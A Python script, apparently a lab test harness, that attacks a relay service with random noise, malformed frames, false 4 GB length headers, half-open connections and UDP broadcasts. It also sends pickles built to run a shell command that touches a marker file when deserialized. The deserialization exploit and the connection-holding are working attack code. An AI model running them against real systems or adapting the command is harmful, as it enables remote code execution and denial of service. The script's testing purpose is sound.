"""Somebody who means a relay harm: noise, half frames, false lengths, and pickles that run a command.

attack.py RELAY_IP MARKER: the pickles, where they are loaded, make the file MARKER. Says `@lab done` once all is sent,
and keeps the half-open connections until it is killed.
"""

import os
import pickle
import random
import socket
import struct
import sys
import time

RELAY, MARKER = sys.argv[1:3]
CLIENT_PORTS = (9700, 61590, 51347)
NODE_PORTS = (9701, 61591, 51348)
ENOUGH_S = 15  # a relay that no longer answers isn't attacked for ever
random.seed(4711)  # the same noise in every run
started = time.time()


def noise_of(size):
    return bytes(bytearray(random.randrange(256) for _ in range(size)))


class Command(object):
    def __reduce__(self):
        return os.system, ("touch " + MARKER,)


def hostile():
    """Pickles that run the command, in every disguise a relay might look into."""
    for protocol in (0, 2, 4):
        yield pickle.dumps(Command(), protocol)
        yield pickle.dumps({"version": Command(), "sign": "0" * 40, "port": 9700, "ip_addrs": [RELAY]}, protocol)
        yield pickle.dumps({"version": "4.15.2", "port": Command(), "sign": "0" * 40, "ip_addrs": [RELAY]}, protocol)
    yield b"cos\nsystem\n(S'touch " + MARKER.encode() + b"'\ntR."


def noise():
    for size in (0, 1, 4, 40, 44, 100, 1000, 1024, 1400):
        yield noise_of(size)
        yield b"PING:" + noise_of(size)


def by_udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    subnet = RELAY.rsplit(".", 1)[0] + ".255"
    for address in (RELAY, "255.255.255.255", subnet):
        for port in CLIENT_PORTS + NODE_PORTS:
            for payload in noise():
                send(sock, payload, address, port)
            for payload in hostile():
                for tag in (b"PING:", b"TERMINATED:", b"PULSE:", b""):
                    send(sock, tag + payload, address, port)


def send(sock, payload, address, port):
    try:
        sock.sendto(payload, (address, port))
    except OSError:
        pass  # no route for that broadcast


def frame(payload):
    return b"x" * 40 + struct.pack(">L", len(payload)) + payload


def by_tcp():
    """Whole attacks, closed; then half ones, which stay open."""
    for port in NODE_PORTS + CLIENT_PORTS:
        for payload in list(noise()) + [frame(b"PING:" + payload) for payload in hostile()]:
            sock = connect(port)
            if sock:
                try:
                    sock.sendall(payload)
                    sock.close()
                except OSError:
                    pass
    return [sock for port in NODE_PORTS for sock in half_open(port)]


def half_open(port):
    for i in range(40):
        sock = connect(port)
        if not sock:
            return
        try:
            if i % 4 == 0:
                sock.sendall(b"x" * random.randrange(40))
            elif i % 4 == 1:
                sock.sendall(b"x" * 40 + struct.pack(">L", 300) + b"PING:")
            else:  # 4 GB are announced
                sock.sendall(b"x" * 40 + struct.pack(">L", 0xFFFFFFF0) + b"PING:" + noise_of(100))
        except OSError:
            pass
        yield sock


def connect(port):
    if time.time() - started > ENOUGH_S:
        return None
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(1)
    try:
        sock.connect((RELAY, port))
        return sock
    except OSError:
        sock.close()
        return None


by_udp()
kept = by_tcp()
print("@lab done", len(kept))
sys.stdout.flush()
time.sleep(3600)
